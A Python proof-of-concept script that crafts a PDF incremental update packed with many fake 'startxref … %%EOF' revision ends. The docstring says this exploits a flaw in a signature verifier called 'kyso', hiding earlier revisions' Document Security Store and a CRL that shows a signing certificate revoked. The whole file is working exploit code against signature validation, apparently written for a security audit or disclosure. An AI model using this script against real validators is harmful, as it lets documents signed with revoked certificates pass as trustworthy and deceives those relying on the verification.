#!/usr/bin/env python3
"""An incremental update that holds many fake revision ends: a stream whose data repeats
`startxref <the first revision's cross-reference offset> %%EOF`. kyso read the DSS of the
revisions ending at the newest 256 `%%EOF` strings of the file, so 256 such strings hid every
earlier revision's DSS (each fake end read as the first revision), and with it a CRL saying
"revoked" that a later update had dropped from the final DSS (found by an attacker's reading
of verify/, 2026-12-02). Written with Python and nothing of kyso's; the update is a
cross-reference stream (ISO 32000-1 §7.5.8), as pyHanko writes them, appended to IN.pdf.

    dss_hiding.py IN.pdf OUT.pdf N
"""
import re
import sys

src, dst, count = sys.argv[1], sys.argv[2], int(sys.argv[3])
pdf = open(src, "rb").read()

starts = [int(m.group(1)) for m in re.finditer(rb"startxref\s+(\d+)", pdf)]
first, last = starts[0], starts[-1]
# The newest trailer: a cross-reference stream's dictionary or a table's trailer.
if pdf[last:last + 4] == b"xref":
    trailer = pdf[pdf.index(b"trailer", last):pdf.index(b"startxref", last)]
else:
    trailer = pdf[last:pdf.index(b"stream", last)]


def key(name):
    m = re.search(rb"/" + name + rb"\s*(\d+\s+\d+\s+R|\[[^\]]*\]|\d+)", trailer)
    return m.group(1) if m else None


out = bytearray(pdf)
if not out.endswith(b"\n"):
    out += b"\n"
num = int(key(b"Size"))
placed = {}


def add(body):
    """Write a new object and return its number."""
    global num
    n = num
    num += 1
    placed[n] = len(out)
    out.extend(b"%d 0 obj\n" % n + body + b"\nendobj\n")
    return n


def stream(data, extra=b""):
    return b"<< /Length %d%s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


add(stream(b"".join(b"startxref\n%d\n%%%%EOF\n" % first for _ in range(count))))

xref_num = num
placed[xref_num] = len(out)
nums = sorted(placed)
index = b" ".join(b"%d 1" % n for n in nums)
rows = b"".join(bytes([1]) + placed[n].to_bytes(4, "big") + b"\0\0" for n in nums)
extra = b"".join(b" /%s %s" % (k, key(k)) for k in (b"Info", b"ID") if key(k))
out += (b"%d 0 obj\n<< /Type /XRef /W [1 4 2] /Index [%s] /Size %d /Prev %d /Root %s%s /Length %d >>\nstream\n"
        % (xref_num, index, xref_num + 1, last, key(b"Root"), extra, len(rows)))
out += rows + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % placed[xref_num]
open(dst, "wb").write(out)
